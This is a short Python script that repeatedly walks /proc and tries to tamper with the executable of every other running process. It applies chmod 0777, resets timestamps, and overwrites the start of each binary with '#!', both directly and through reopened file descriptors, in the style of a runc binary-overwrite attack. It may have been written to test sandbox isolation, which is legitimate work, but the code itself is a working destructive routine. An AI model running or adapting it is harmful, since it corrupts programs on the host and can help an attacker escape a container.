# Gets hold of every program file that can be reached through /proc and tries to change it, again and again.
import os, sys, time
end = time.monotonic() + float(sys.argv[1])
own = os.stat('/proc/self/exe')
while time.monotonic() < end:
    for pid in filter(str.isdigit, os.listdir('/proc')):
        path = f'/proc/{pid}/exe'
        try:
            descriptor = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        found = os.fstat(descriptor)
        if (found.st_dev, found.st_ino) != (own.st_dev, own.st_ino):
            for change in (lambda: os.fchmod(descriptor, 0o777), lambda: os.utime(descriptor, (1, 1)),
                           lambda: os.write(os.open(path, os.O_WRONLY), b'#!'),
                           lambda: os.write(os.open(f'/proc/self/fd/{descriptor}', os.O_WRONLY), b'#!')):
                try:
                    change()
                except OSError:
                    pass
        os.close(descriptor)
